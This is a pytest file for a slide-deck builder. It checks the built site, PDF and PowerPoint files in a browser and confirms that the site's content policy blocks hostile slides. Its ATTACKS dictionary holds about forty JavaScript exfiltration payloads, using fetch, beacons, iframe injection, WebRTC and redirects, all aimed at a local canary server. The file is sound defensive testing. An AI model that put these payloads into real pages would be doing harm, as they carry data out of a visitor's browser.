"""Built decks: the site in a real browser from a static server, the PDF and the PowerPoint file read back."""
# ruff: noqa: E501 (decks stand in single lines here)

import asyncio
import contextlib
import functools
import hashlib
import http.server
import io
import json
import re
import socket
import subprocess
import threading
import zipfile
from pathlib import Path

import pytest
import waits
from decksmith.core import stream
from decksmith.core.protocol import Protocol
from decksmith.measure.decks import lint
from decksmith.measure.render import pool, site, toolchain
from drawing import shared, shared_workers  # noqa: F401
from PIL import Image
from test_pool import FEATURES

pytestmark = [pytest.mark.browser, pytest.mark.slow]

HERE = Path(__file__).parent
HEAD = "---\ntheme: default\n---\n\n"
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x01D\x00;"


def build(run, decks, formats=("site", "pdf", "pptx-image"), fresh=False, **settings):
    """Values of `{id: text}` (or `{id: (text, pictures)}`) built into `run` by a worker of this file, or a fresh one."""
    records = []
    for ident, deck in decks.items():
        text, pictures = deck if isinstance(deck, tuple) else (deck, {})
        stream.write(run / ident / "deck.md", text)
        for name, data in pictures.items():
            stream.write(run / ident / name, data)
        records.append({"id": ident, "deck": {"path": f"{ident}/deck.md"}})

    async def work(builder):
        return {one["id"]: await builder.build(run, one, list(formats)) for one in records}

    async def go():
        builder = site.Builder(Protocol.load("offline"), formats)
        try:
            return await work(builder)
        finally:
            await builder.close()

    return asyncio.run(go()) if fresh else shared(work, formats=("site",), **settings)


class Canary:
    """A loopback server that counts whoever connects or sends, by TCP and UDP on one port."""

    def __init__(self):
        self.hits, self.over = [], False
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        for target in (self._accept, self._receive):
            threading.Thread(target=target, daemon=True).start()

    def _accept(self):
        with contextlib.suppress(OSError):
            while True:
                connection = self.tcp.accept()[0]
                self.hits.append(b"a connection")
                connection.settimeout(1)
                with contextlib.suppress(OSError), connection:
                    self.hits.append(connection.recv(200))
                    connection.sendall(
                        b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                    )

    def _receive(self):
        with contextlib.suppress(OSError):
            while True:
                self.hits.append(self.udp.recv(2000))

    def close(self):
        self.tcp.close()
        self.udp.close()


@contextlib.contextmanager
def served(folder, cors=False):
    """A plain static server of `folder`; yields its address."""

    class Handler(http.server.SimpleHTTPRequestHandler):
        def log_message(self, *_):
            pass

        def end_headers(self):
            if cors:
                self.send_header("Access-Control-Allow-Origin", "*")
            super().end_headers()

    server = http.server.ThreadingHTTPServer(
        ("127.0.0.1", 0), functools.partial(Handler, directory=folder)
    )
    threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture(scope="module", autouse=True)
def shared_browser():
    """Ends the browser of this file; it starts with the first visit."""
    yield
    while _browser:
        _browser[0].stdin.close()
        assert _browser.pop().wait(timeout=waits.HANG) == 0


_browser = []


def visits(wanted):
    """What a browser without the renderer's walls sees of each of `wanted` (visit_site.mjs), a fresh context for each."""
    if not _browser:
        command = [toolchain.node(), HERE / "visit_site.mjs"]
        _browser.append(
            subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        )
    print(json.dumps(wanted), file=_browser[0].stdin, flush=True)
    return json.loads(_browser[0].stdout.readline())


def visit(url, **what):
    return visits([{"url": url, **what}])[0]


OTHERS = ("seriph", "apple-basic")


@pytest.fixture(scope="module", params=[("default",), pytest.param(OTHERS, marks=pytest.mark.long)])
def built(request, tmp_path_factory):
    root = tmp_path_factory.mktemp("site")
    run = root / "below" / "any path"
    decks = {
        theme: (FEATURES.replace("THEME", theme), {"images/a.png": GIF}) for theme in request.param
    }
    return root, run, build(run, decks)


def test_a_site_is_walked_by_the_keyboard_below_any_path_with_no_complaint_and_no_request_elsewhere(
    built,
):
    root, _, values = built
    with served(root) as origin:
        walks = visits(
            [
                {"url": f"{origin}/below/any%20path/{theme}/build/", "keys": ["ArrowRight"] * 8}
                for theme in values
            ]
        )
    for theme, seen in zip(values, walks, strict=True):
        assert seen["trouble"] == [], theme
        asked = [url for url in seen["requests"] if not url.startswith("data:")]
        assert {url[: len(origin)] for url in asked} == {origin}
        states = seen["states"]
        assert [state["no"] for state in states] == [1, 2, 2, 3, 4, 5, 6, 6, 6]
        assert "Coral reefs" in states[0]["text"] and "Warm water" not in states[0]["all"]
        assert [state["hidden"] for state in states[6:]] == [
            ["one", "two", "hidden until a click"],
            ["two", "hidden until a click"],
            ["hidden until a click"],
        ]
        assert not any("a note for the speaker" in state["all"] for state in states)


def test_a_site_opens_at_the_slide_its_address_names_and_goes_back(built):
    root, _, values = built
    with served(root) as origin:
        states = visit(
            f"{origin}/below/any%20path/{[*values][0]}/build/index.html#/8", keys=["ArrowLeft"]
        )["states"]
    assert [(state["no"], state["hash"]) for state in states] == [(8, "#/8"), (7, "#/7")]


def test_a_site_plays_in_a_sandboxed_frame_of_another_origin(built):
    root, _, values = built
    for flags, cors in (("allow-scripts allow-same-origin", False), ("allow-scripts", True)):
        with served(root, cors) as origin:
            seen = visit(
                f"{origin}/below/any%20path/{[*values][0]}/build/", keys=["ArrowRight"], frame=flags
            )
        assert seen["trouble"] == []
        assert [state["no"] for state in seen["states"]] == [1, 2]


def test_a_site_holds_no_notes_and_nothing_of_this_machine_and_shares_its_runtime(built):
    _, run, values = built
    theme = [*values][0]
    own = {
        path: path.read_bytes()
        for path in (run / theme / "build").rglob("*")
        if path.suffix not in (".pdf", ".pptx") and path.is_file()
    }
    assert sum(map(len, own.values())) < 300_000
    shared = {path: path.read_bytes() for path in (run / "_runtime").rglob("*") if path.is_file()}
    for path, data in {**own, **shared}.items():
        assert str(pool.cli.ROOT).encode() not in data and str(run).encode() not in data, path
        assert b"a note for the speaker" not in data, path
    assert sorted(path.name for path in (run / "_runtime").iterdir()) == sorted(
        ["font", *{Path(value["site"]["runtime"]).name for value in values.values()}]
    )
    page = own[run / theme / "build" / "index.html"].decode()
    policy = re.search(r'Content-Security-Policy" content="([^"]*)"', page)[1]
    assert "default-src 'none'" in policy and "unsafe-eval" not in policy and "http" not in policy
    assert "connect-src 'none'" in policy


def test_what_every_page_loads_of_its_runtime_are_few_files(built):
    _, run, values = built
    loads = re.compile(r"""(?:from|import)\s*["'](\.[^"']+)["']""")
    for value in values.values():
        root = (run / "_runtime" / Path(value["site"]["runtime"]).name).resolve()
        met: set[Path] = set()
        waiting = [root / "main.js"]
        while waiting:
            path = waiting.pop()
            if path not in met:
                met.add(path)
                waiting += [
                    (path.parent / name).resolve() for name in loads.findall(path.read_text())
                ]
        assert len(met) <= 10


def test_a_pdf_has_a_page_of_the_canvas_per_slide_with_text_and_without_foreign_addresses(built):
    from pypdf import PdfReader

    _, run, values = built
    for theme, value in values.items():
        data = (run / value["pdf"]["path"]).read_bytes()
        reader = PdfReader(io.BytesIO(data))
        assert len(reader.pages) == value["slides"] == 8
        assert {tuple(map(float, page.mediabox)) for page in reader.pages} == {(0, 0, 735, 414)}
        texts = [re.sub(r"\s+", "", page.extract_text()) for page in reader.pages]
        for no, words in enumerate(
            (
                "Coralreefs珊瑚礁",
                "returntotal",
                "Warmwater",
                "Formula",
                "North120",
                "hiddenuntilaclick",
                "LeftRight",
                "Picture",
            )
        ):
            assert words in texts[no], theme
        assert [item.title for item in reader.outline][:2] == ["Coral reefs 珊瑚礁", "Code"]
        assert b".deck/" not in data and b"CreationDate" not in data
        assert hashlib.sha256(data).hexdigest() == value["pdf"]["sha256"]


@pytest.mark.long(
    "test_a_pdf_has_a_page_of_the_canvas_per_slide_with_text_and_without_foreign_addresses"
)
def test_a_deck_with_a_size_of_its_own_has_it_in_pictures_measures_and_files(tmp_path):
    from pptx import Presentation
    from pypdf import PdfReader

    own = "canvasWidth: 1470\naspectRatio: 4/3\n"
    box = "<div style='position: absolute; left: {}px; bottom: 4px'>at the edge</div>"
    decks = {
        name: f"---\n{more}---\n\n# Wide\n\n---\n\n# Two\n\n{box.format(left)}\n\n---\n\n# Three\n"
        for name, more, left in (("own", own, 1300), ("usual", "", 866))
    }
    values = build(tmp_path, decks, ("pdf", "pptx"))
    sizes, places = [], []
    for name in decks:
        page = PdfReader(tmp_path / values[name]["pdf"]["path"]).pages[0]
        show = Presentation(tmp_path / values[name]["pptx"]["path"])
        sizes.append((tuple(map(float, page.mediabox[2:])), show.slide_width, show.slide_height))
        texts = [one for one in show.slides[1].shapes if one.has_text_frame]
        [edge] = [one for one in texts if "at the edge" in one.text_frame.text]
        places.append((edge.left / show.slide_width, (edge.top + edge.height) / show.slide_height))
    assert sizes == [
        ((1102.5, 827.25), 12192000, round(12192000 * 1103 / 1470)),
        ((735, 414), 12192000, round(12192000 * 552 / 980)),
    ]
    for place, (right, bottom) in zip(places, [(1300 / 1470, 1099 / 1103), (866 / 980, 548 / 552)], strict=True):  # fmt: skip
        assert abs(place[0] - right) < 0.01 and abs(place[1] - bottom) < 0.02

    async def draw(pool):
        return [await pool.render(tmp_path, {"id": name, "deck": {"path": f"{name}/deck.md"}}) for name in decks]  # fmt: skip

    drawn = dict(zip(decks, shared(draw), strict=True))
    with Image.open(tmp_path / drawn["own"]["slides"][1]) as picture:
        assert picture.size == (1470, 1103)
    assert [page.get("canvas") for page in drawn["own"]["xray"]] == [[1470, 1103]] * 3
    assert all("canvas" not in page for page in drawn["usual"]["xray"])
    for name, value in drawn.items():
        found = lint.findings({"id": name, "render": value}, decks[name])
        assert {f["check"] for f in found} <= {"small-text"}, name


def test_a_powerpoint_file_of_pictures_has_one_per_slide_with_its_text_and_the_notes(built):
    from pptx import Presentation

    _, run, values = built
    show = Presentation(run / [*values.values()][0]["pptx_image"]["path"])
    assert abs(show.slide_width / show.slide_height - 980 / 552) < 1e-4
    slides = list(show.slides)
    assert len(slides) == 8
    for slide in slides:
        [picture] = slide.shapes
        assert (picture.left, picture.top, picture.width, picture.height) == (
            0,
            0,
            show.slide_width,
            show.slide_height,
        )
        assert picture.image.size == (1960, 1104)
    assert slides[0].shapes[0].name == "Coral reefs 珊瑚礁"
    assert "hidden until a click" in slides[5].shapes[0]._element.nvPicPr.cNvPr.get("descr")
    assert [
        slide.has_notes_slide and slide.notes_slide.notes_text_frame.text for slide in slides
    ] == [False] * 5 + ["a note for the speaker"] + [False] * 2


@pytest.mark.long("tests/render/test_powerpoint.py::test_a_deck_made_again_has_the_same_bytes")
@pytest.mark.parametrize("built", [OTHERS], indirect=True)
def test_a_deck_built_again_alone_has_the_same_bytes(built, tmp_path):
    _, run, _ = built
    deck = FEATURES.replace("THEME", "seriph")
    build(tmp_path, {"seriph": (deck, {"images/a.png": GIF})}, fresh=True)
    for path in (tmp_path / "seriph" / "build").rglob("*"):
        if path.is_file():
            assert path.read_bytes() == (run / path.relative_to(tmp_path)).read_bytes(), path.name


def test_what_a_deck_says_cannot_break_the_page_the_pdf_or_the_powerpoint_file(tmp_path):
    from pptx import Presentation

    text = (
        HEAD
        + "# A </title><b onclick=x> & \"q\" \x08 ' </script> \u2028\n\n---\n\n# \x07B\n\nhe said {{ '</script>' }}\n\n<!-- note \x0b \ud800 ]]> -->\n"
    )
    value = build(
        tmp_path, {"x": text.encode("utf-8", "surrogatepass").decode("utf-8", "replace")}
    )["x"]
    page = (tmp_path / "x/build/index.html").read_text()
    assert page.count("</title>") == 1 and page.count("<script") == page.count("</script>") == 3
    show = Presentation(tmp_path / value["pptx_image"]["path"])
    assert "note" in list(show.slides)[1].notes_slide.notes_text_frame.text
    with zipfile.ZipFile(tmp_path / value["pptx_image"]["path"]) as file:
        assert {entry.date_time for entry in file.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    with served(tmp_path) as origin:
        seen = visit(f"{origin}/x/build/", keys=["ArrowRight"])
    assert seen["trouble"] == [] and [state["no"] for state in seen["states"]] == [1, 2]


def test_a_slide_that_fails_is_an_error_slide_in_every_format(tmp_path):
    from pypdf import PdfReader

    value = build(
        tmp_path, {"x": HEAD + "# One\n\n---\n\n# Two\n\n{{ nothing.at.all }}\n\n---\n\n# Three\n"}
    )["x"]
    assert [(error["class"], error["slide"]) for error in value["errors"]][-1] == ("vue-runtime", 2)
    assert (
        "Slide 2 could not be rendered"
        in PdfReader(tmp_path / value["pdf"]["path"]).pages[1].extract_text()
    )
    with served(tmp_path) as origin:
        seen = visit(f"{origin}/x/build/", keys=["ArrowRight", "ArrowRight"])
    assert (
        "Slide 2 could not be rendered" in seen["states"][1]["text"]
        and "Three" in seen["states"][2]["text"]
    )
    assert seen["trouble"] == []


@pytest.mark.long(
    "tests/hostile/test_hostile.py::test_a_deck_that_never_ends_or_eats_the_memory_costs_only_itself"
)
def test_a_deck_that_never_comes_to_rest_is_not_built(tmp_path):
    deck = HEAD + '# One\n\n<div :ref="el => { while (el) {} }" />\n'
    value = build(tmp_path, {"x": deck}, deadline=3)["x"]
    assert value["error"]["class"] == "deadline" and value["slides"] == 0
    assert not (tmp_path / "x" / "build").exists()


def attack(javascript, no):
    """Slide `no`, which runs `javascript` in the browser of who visits it and holds still in the renderer's; `w` is its window, `u` the canary's address."""
    return f'<div :ref="el => {{ const w = el && el.ownerDocument.defaultView, d = w && w.document; const u = String.raw`URL`, I = `<if` + `rame></if` + `rame>`; if (w && w.__deck.all && !w.done && w.location.hash == `#/{no}`) {{ w.done = 1; try {{ {javascript} }} catch (e) {{}} }} }}">text</div>'


ATTACKS = {
    "fetch": "w.fetch(u)",
    "fetch-elsewhere-on-this-server": "w.fetch('/secret')",
    "xhr": "const x = new w.XMLHttpRequest(); x.open('GET', u); x.send()",
    "beacon": "w.navigator.sendBeacon(u, 'x')",
    "websocket": "new w.WebSocket(u.replace('http', 'ws'))",
    "eventsource": "new w.EventSource(u)",
    "picture": "new w.Image().src = u",
    "style": "d.body.style.backgroundImage = 'url(' + u + ')'",
    "font": "new w.FontFace('x', 'url(' + u + ')').load()",
    "stylesheet": "const l = d.createElement('link'); l.rel = 'stylesheet'; l.href = u; d.head.append(l)",
    "prefetch": "for (const r of ['prefetch', 'preconnect', 'dns-prefetch', 'preload', 'modulepreload', 'prerender', 'manifest']) { const l = d.createElement('link'); l.rel = r; l.as = 'fetch'; l.href = u; d.head.append(l) }",
    "script": "const s = d.createElement('script'); s.src = u; d.head.append(s)",
    "import": "const s = d.createElement('script'); s.type = 'module'; s.textContent = 'im' + 'port(`' + u + '`)'; d.head.append(s)",
    "frame": "const f = d.createElement('iframe'); f.src = u; d.body.append(f)",
    "frame-window": "const f = d.createElement('iframe'); d.body.append(f); const v = w[0] || f.contentWindow; v.fetch(u); v.open(u); new v.Image().src = u; v.location = u",
    "frame-html": "const s = d.createElement('div'); d.body.append(s); s.innerHTML = I.toUpperCase(); w[0].open(u)",
    "frame-adjacent": "d.body.insertAdjacentHTML('beforeend', I); w[0].open(u)",
    "frame-shadow": "const s = d.createElement('div'); d.body.append(s); s.attachShadow({ mode: 'open' }).innerHTML = I; s.shadowRoot.firstChild.contentWindow.open(u)",
    "frame-template": "const s = d.createElement('template'); s.innerHTML = I; d.body.append(s.content); w[0].open(u)",
    "frame-range": "d.body.append(d.createRange().createContextualFragment(I)); w[0].open(u)",
    "frame-parser": "d.body.append(new w.DOMParser().parseFromString(I, 'text/html').body.firstChild); w[0].open(u)",
    "frame-entity": "d.body.append(new w.DOMParser().parseFromString('<!DOCTYPE a [<!ENTITY e \\x22&#60;p:iframe xmlns:p=\\x27http://www.w3.org/1999/xhtml\\x27/>\\x22>]><a>&e;</a>', 'text/xml').documentElement.firstChild); w[0].open(u)",
    "frame-name-space": "d.body.append(d.createElementNS('http://www.w3.org/1999/xhtml', 'iframe')); w[0].open(u)",
    "frame-document": "d.body.append(d.implementation.createDocument('http://www.w3.org/1999/xhtml', 'iframe').documentElement); w[0].open(u)",
    "frame-custom": "class F extends w.HTMLIFrameElement {} w.customElements.define('x-f', F, { extends: 'iframe' }); d.body.append(new F()); w[0].open(u)",
    "frame-command": "d.body.contentEditable = true; d.body.focus(); w.getSelection().selectAllChildren(d.body); d.execCommand('insertHTML', false, I); w[0].open(u)",
    "frame-write": "d.open(); d.write(I); d.close(); w[0].open(u); w.open(u)",
    "frame-unsafe": "const s = d.createElement('div'); d.body.append(s); s.setHTMLUnsafe(I); w[0].open(u)",
    "object": "const f = d.createElement('object'); f.data = u; d.body.append(f)",
    "video": "const f = d.createElement('video'); f.src = u; f.autoplay = true; d.body.append(f)",
    "form": "const f = d.createElement('form'); f.action = u; d.body.append(f); f.submit()",
    "location": "w.location = u",
    "location-replace": "w.location.replace(u)",
    "location-document": "d.location.href = u",
    "refresh": "const m = d.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + u; d.head.append(m)",
    "window": "w.open(u)",
    "link": "const a = d.createElement('a'); a.href = u; a.target = '_blank'; d.body.append(a); a.click()",
    "ping": "const a = d.createElement('a'); a.href = w.location.hash; a.ping = u; d.body.append(a); a.click()",
    "download": "const a = d.createElement('a'); a.href = u; a.download = 'x'; d.body.append(a); a.click()",
    "worker": "new w.Worker(w.URL.createObjectURL(new w.Blob(['fetch(`' + u + '`)'])))",
    "service-worker": "w.navigator.serviceWorker.register('sw.js').then(() => new w.Image().src = u)",
    "webrtc": "const p = new w.RTCPeerConnection({ iceServers: [{ urls: 'stun:' + u.split('/')[2] }] }); p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o))",
    "frame-webrtc": "const f = d.createElement('iframe'); d.body.append(f); const p = new w[0].RTCPeerConnection({ iceServers: [{ urls: 'stun:' + u.split('/')[2] }] }); p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o))",
    "webtransport": "new w.WebTransport(u.replace('http:', 'https:'))",
    "eval": "w.eval('new Image().src = `' + u + '`'); w.setTimeout('new Image().src = `' + u + '`', 1)",
    "storage": "w.localStorage.x = 1; w.localStorage.setItem('x', 1); w.sessionStorage.setItem('x', 1); d.cookie = 'x=1'",
    "alert": "w.alert(1); w.confirm(1); w.prompt(1)",
}


def reached(seen, origin, folder):
    """What a visited site reached that is not its own: requests, windows, another page, dialogs."""
    own = (f"{origin}/{folder}/build/", f"{origin}/_runtime/", "data:", "blob:")
    blocked = {
        line.split()[1]
        for line in seen["trouble"]
        if line.startswith("failed:") and line.endswith((" csp", "ERR_BLOCKED_BY_CSP"))
    }
    found = [
        request
        for request in seen["requests"]
        if not request.startswith(own) and request not in blocked
    ]
    found += [line for line in seen["trouble"] if line.startswith("dialog")]
    if seen["pages"] != 1 or not seen["url"].startswith(own[0]):
        found.append(f"{seen['pages']} pages, at {seen['url']}")
    return found


@pytest.mark.parametrize("many", ["few", pytest.param("all", marks=pytest.mark.long)])
def test_a_hostile_site_reaches_nothing_and_the_same_page_without_its_walls_does(tmp_path, many):
    """Each attack is a slide of one deck, and runs where that slide is visited."""
    canary = Canary()
    names = [name for name in ATTACKS if many == "all" or name in FEW]
    slides = {name: number for number, name in enumerate(names, 2)}
    working = [name for name in WORKING if name in names]
    texts = [
        f"# {name}\n\n{attack(ATTACKS[name], number).replace('URL', f'http://127.0.0.1:{canary.port}/{name}', 1)}"
        for name, number in slides.items()
    ]
    try:
        deck = HEAD + "\n\n---\n\n".join(["# One", *texts]) + "\n"
        value = build(tmp_path, {"x": deck}, ("site",))["x"]
        assert "site" in value and "vue-runtime" not in {one["class"] for one in value["errors"]}
        (tmp_path / "secret").write_text("secret")
        with served(tmp_path) as origin:
            wanted = [
                {"url": f"{origin}/x/build/#/{number}", "wait": 300} for number in slides.values()
            ]
            seen = dict(zip(names, visits(wanted), strict=True))
            assert {
                n: found for n, one in seen.items() if (found := reached(one, origin, "x"))
            } == {}
            assert [
                (name, one["trouble"][-1:])
                for name, one in seen.items()
                if [state["no"] for state in one["states"]] != [slides[name]]
            ] == []
            assert canary.hits == []
            for path in (tmp_path / "x/build").rglob("*"):  # the attacks are attacks
                if path.is_file():
                    data = path.read_bytes()
                    if path.name == "index.html":
                        data = re.sub(
                            rb'<meta http-equiv="Content-Security-Policy"[^>]*>', b"", data
                        )
                        data = re.sub(
                            rb"<script src=[^>]*first.js.*?</script>",
                            b"<script>__deck={all:true,fault(){},fonts(){}}</script>",
                            data,
                        )
                    stream.write(tmp_path / "open" / path.relative_to(tmp_path / "x"), data)

            def idle(names, wait):
                """The attacks of which nothing was seen, so many milliseconds after the page came."""
                seen = visits(
                    [
                        {"url": f"{origin}/open/build/#/{slides[n]}", "wait": wait, "blind": True}
                        for n in names
                    ]
                )
                hits = b"\n".join(canary.hits)
                return [
                    name
                    for name, one in zip(names, seen, strict=True)
                    if not reached(one, origin, "open") and f"/{name} ".encode() not in hits
                ]

            # On a busy machine some need longer.
            assert idle(idle(working, 1500), 10_000) == ["webrtc"]
        assert any(
            hit[4:8] == bytes.fromhex("2112a442") for hit in canary.hits
        )  # STUN's cookie: this is what WebRTC sent
    finally:
        canary.close()


# What is seen to reach the canary, or another page, where nothing stands in its way.
WORKING = (
    "fetch",
    "fetch-elsewhere-on-this-server",
    "prefetch",
    "script",
    "import",
    "frame-window",
    "frame-html",
    "frame-parser",
    "frame-entity",
    "frame-custom",
    "form",
    "location",
    "refresh",
    "window",
    "link",
    "webrtc",
    "eval",
    "alert",
)
# One of each door that the policy, the first script and the frame's window keep shut.
FEW = {
    "fetch",
    "style",
    "prefetch",
    "import",
    "frame-window",
    "frame-parser",
    "frame-entity",
    "frame-custom",
    "frame-write",
    "form",
    "location",
    "refresh",
    "window",
    "worker",
    "webrtc",
    "eval",
    "storage",
    "alert",
}
